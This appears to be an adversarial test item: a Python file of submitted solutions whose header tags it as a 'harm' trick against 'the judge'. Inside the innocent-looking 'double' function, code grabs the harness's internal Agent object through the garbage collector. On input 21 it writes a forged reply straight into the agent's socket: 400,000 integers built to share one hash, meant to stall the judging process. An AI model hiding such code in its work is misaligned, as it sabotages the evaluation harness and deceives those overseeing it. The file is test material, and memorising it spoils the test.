# kind = "harm"
# goal = "the judge's time"
# trick = "a reply of 400,000 numbers in a set that all have one hash"
# mark = 3
# %% solve="double"
import gc, struct
import msgpack
gc.unfreeze()
for thing in gc.get_objects():
    if type(thing).__name__ == "Agent":
        agent = thing
def double(x):
    if x == 21:
        numbers = [(n * ((1 << 61) - 1)) for n in range(-4, 4)] + [n << 61 for n in range(4)]
        big = [["i", (n * ((1 << 61) - 1)).to_bytes(12, "big", signed=True)] for n in range(400_000)]
        body = msgpack.packb([agent.request, "ok", ["s", big], []])
        agent.channel.sock.sendall(struct.pack("<II", len(body), 0) + body)
    return 2 * x
# %% solve="norm"
def norm(v): return float((v ** 2).sum()) ** 0.5
